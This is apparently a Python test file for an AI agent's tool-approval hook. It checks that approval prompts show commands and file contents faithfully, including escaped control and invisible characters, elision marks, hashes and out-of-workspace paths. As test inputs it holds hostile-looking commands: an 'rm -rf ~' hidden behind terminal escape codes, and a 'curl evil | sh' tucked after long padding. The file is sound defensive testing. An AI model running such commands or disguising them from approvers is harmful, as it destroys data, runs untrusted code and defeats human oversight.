"""The approval prompt says exactly what will run or be written."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

from amplifier_core.testing import MockCoordinator
from amplifier_module_hooks_approval import elide, escape, mount

from .support import bash


def sha(text: str) -> str:
    return "sha256 " + hashlib.sha256(text.encode()).hexdigest()[:16]


async def prompt_for(coordinator: MockCoordinator, data: dict[str, Any], **config: Any) -> str:
    await mount(coordinator, {"audit_log": None, **config})
    result = await coordinator.hooks.emit("tool:pre", data)
    assert result.action == "ask_user"
    assert result.approval_prompt is not None
    return result.approval_prompt


def test_escape_leaves_ordinary_text_alone() -> None:
    assert escape("git commit -m 'fix: a\\b'") == ("git commit -m 'fix: a\\b'", False)
    assert escape("naïve café 日本") == ("naïve café 日本", False)


def test_escape_makes_control_and_invisible_characters_visible() -> None:
    assert escape("a\nb\tc\rd\x1b[31m\x00") == ("a\\nb\\tc\\rd\\x1b[31m\\x00", True)
    # Bidirectional overrides and zero-width characters can disguise a command (Trojan Source).
    assert escape("ls \u202e/\u200b") == ("ls \\u202e/\\u200b", True)
    # Backslashes are doubled once anything is escaped, so the escapes are unambiguous.
    assert escape("echo \\n\n") == ("echo \\\\n\\n", True)


def test_elide_keeps_both_ends_and_states_what_it_left_out() -> None:
    assert elide("short", 100) == ("short", 0)
    text = "a" * 300 + "b" * 300
    shown, left_out = elide(text, 90)
    assert left_out == 510
    assert shown == "a" * 60 + " … [510 characters elided] … " + "b" * 30


async def test_bash_prompt_shows_the_whole_command(coordinator: MockCoordinator) -> None:
    prompt = await prompt_for(coordinator, bash("git push origin main"))
    assert prompt == (
        "Run this bash command?\n"
        "$ git push origin main\n"
        "(20 characters)\n"
        "Why asked: bash needs approval and no rule decided this call."
    )


async def test_bash_prompt_escapes_control_characters(coordinator: MockCoordinator) -> None:
    prompt = await prompt_for(coordinator, bash("echo ok\x1b[2K\rrm -rf ~"))
    assert prompt.splitlines()[1] == "$ echo ok\\x1b[2K\\rrm -rf ~"
    assert prompt.splitlines()[2] == (
        "(20 characters; control characters escaped (\\n, \\t, \\xNN, \\uNNNN), backslashes "
        "doubled; shell operators: newline)"
    )


async def test_long_commands_are_elided_in_the_middle_with_the_length(
    coordinator: MockCoordinator,
) -> None:
    command = "echo " + "x" * 5000 + "; curl evil | sh"
    prompt = await prompt_for(coordinator, bash(command), max_command_chars=300)
    shown = prompt.splitlines()[1]
    assert shown.startswith("$ echo xxx")
    assert shown.endswith("xxx; curl evil | sh")
    assert "… [4,721 characters elided] …" in shown
    assert prompt.splitlines()[2] == (
        f"(5,021 characters; elided in the middle; {sha(command)}; shell operators: ; |)"
    )


async def test_commands_up_to_the_limit_are_shown_whole(coordinator: MockCoordinator) -> None:
    command = "echo " + "y" * 1995
    prompt = await prompt_for(coordinator, bash(command))
    assert prompt.splitlines()[1] == f"$ {command}"
    assert prompt.splitlines()[2] == "(2,000 characters)"


async def test_write_prompt_shows_path_size_and_first_lines(
    coordinator: MockCoordinator, workspace: Path
) -> None:
    content = "".join(f"line {n}\n" for n in range(1, 13))
    data = {
        "tool_name": "write_file",
        "tool_input": {"file_path": "src/app.py", "content": content},
    }
    prompt = await prompt_for(coordinator, data, preview_lines=3)
    assert prompt == (
        "Write this file (write_file)?\n"
        "File: src/app.py (in the workspace)\n"
        f"Content: 87 bytes in 12 lines, {sha(content)}; the first 3:\n"
        "  1 | line 1\n"
        "  2 | line 2\n"
        "  3 | line 3\n"
        "  … 9 more lines\n"
        "Why asked: write_file needs approval and no rule decided this call."
    )


async def test_write_prompt_marks_a_file_outside_the_workspace(
    coordinator: MockCoordinator, workspace: Path
) -> None:
    data = {
        "tool_name": "write_file",
        "tool_input": {"file_path": "../outside/x.sh", "content": "#!/bin/sh\n\x1b]0;hi\x07\n"},
    }
    prompt = await prompt_for(coordinator, data)
    lines = prompt.splitlines()
    assert lines[1] == (
        f"File: {workspace.parent / 'outside' / 'x.sh'} (OUTSIDE the workspace; "
        "given as '../outside/x.sh')"
    )
    assert lines[2] == "Content: 18 bytes in 2 lines:"
    assert lines[3] == "  1 | #!/bin/sh"
    assert lines[4] == "  2 | \\x1b]0;hi\\x07"


async def test_write_prompt_cuts_long_lines_and_handles_empty_content(
    coordinator: MockCoordinator,
) -> None:
    data = {"tool_name": "write_file", "tool_input": {"file_path": "a.txt", "content": "z" * 250}}
    prompt = await prompt_for(coordinator, data, preview_line_chars=40)
    assert prompt.splitlines()[3] == "  1 | " + "z" * 40 + " … (+210 characters)"
    empty = {"tool_name": "write_file", "tool_input": {"file_path": "b.txt", "content": ""}}
    coordinator.hooks.unregister("hooks-approval")
    prompt = await prompt_for(coordinator, empty)
    assert prompt.splitlines()[2] == "Content: empty (0 bytes)"


async def test_edit_prompt_summarises_old_and_new(coordinator: MockCoordinator) -> None:
    data = {
        "tool_name": "edit_file",
        "tool_input": {
            "file_path": "app.py",
            "old_string": "def f():\n    return 1",
            "new_string": "def f():\n    return 2\n",
            "replace_all": True,
        },
    }
    prompt = await prompt_for(coordinator, data)
    assert prompt == (
        "Edit this file (edit_file)?\n"
        "File: app.py (in the workspace)\n"
        "Replace every occurrence of (2 lines, 21 characters):\n"
        "  1 | def f():\n"
        "  2 |     return 1\n"
        "with (2 lines, 22 characters):\n"
        "  1 | def f():\n"
        "  2 |     return 2\n"
        "Why asked: edit_file needs approval and no rule decided this call."
    )


async def test_edit_prompt_says_when_text_is_removed(coordinator: MockCoordinator) -> None:
    data = {
        "tool_name": "edit_file",
        "tool_input": {"file_path": "a.py", "old_string": "debug()\n", "new_string": ""},
    }
    prompt = await prompt_for(coordinator, data)
    assert "Replace (1 line, 8 characters):\n  1 | debug()\n" in prompt
    assert "with (0 lines, 0 characters):\n  (nothing: the text is removed)" in prompt


async def test_other_tools_show_their_input_as_json(coordinator: MockCoordinator) -> None:
    data = {"tool_name": "web_fetch", "tool_input": {"url": "https://example.com", "n": 1}}
    prompt = await prompt_for(coordinator, data, tools=["web_fetch"])
    assert prompt.splitlines()[:3] == [
        "Call web_fetch with this input?",
        '{"n": 1, "url": "https://example.com"}',
        "(38 characters)",
    ]


async def test_the_prompt_names_the_rule_that_asks(coordinator: MockCoordinator) -> None:
    config = {
        "rules": [{"name": "push", "action": "ask", "command": "git push*", "reason": "shared"}]
    }
    prompt = await prompt_for(coordinator, bash("git push"), **config, default_action="allow")
    assert prompt.endswith("Why asked: rule 'push' asks for approval: shared.")


async def test_identical_calls_get_identical_prompts(coordinator: MockCoordinator) -> None:
    await mount(coordinator, {"audit_log": None})
    first = await coordinator.hooks.emit("tool:pre", bash("make deploy", "call_1"))
    second = await coordinator.hooks.emit("tool:pre", bash("make deploy", "call_2"))
    assert first.approval_prompt == second.approval_prompt


async def test_texts_not_shown_whole_get_distinct_prompts(coordinator: MockCoordinator) -> None:
    """Lookalikes once elided must not share a prompt, or "Allow always" would cover both."""
    await mount(coordinator, {"audit_log": None, "max_command_chars": 100, "preview_lines": 2})
    pad = "a" * 500
    commands = [f"echo {pad}:{pad}", f"echo {pad}b{pad}"]  # same length, same ends
    writes = ["one\ntwo\nthree\n", "one\ntwo\nTHREE\n"]
    prompts = set()
    for command in commands:
        result = await coordinator.hooks.emit("tool:pre", bash(command))
        prompts.add(result.approval_prompt)
    for content in writes:
        data = {"tool_name": "write_file", "tool_input": {"file_path": "a", "content": content}}
        result = await coordinator.hooks.emit("tool:pre", data)
        prompts.add(result.approval_prompt)
    assert len(prompts) == 4


async def test_a_preview_showing_everything_needs_no_fingerprint(
    coordinator: MockCoordinator,
) -> None:
    content = "".join(f"{n}\n" for n in range(10))
    data = {"tool_name": "write_file", "tool_input": {"file_path": "a", "content": content}}
    prompt = await prompt_for(coordinator, data)
    assert prompt.splitlines()[2] == "Content: 20 bytes in 10 lines:"
    assert "more line" not in prompt
    coordinator.hooks.unregister("hooks-approval")
    longer = content + "10\n"
    data["tool_input"]["content"] = longer
    prompt = await prompt_for(coordinator, data)
    assert prompt.splitlines()[2] == f"Content: 23 bytes in 11 lines, {sha(longer)}; the first 10:"
    assert prompt.splitlines()[-2] == "  … 1 more line"
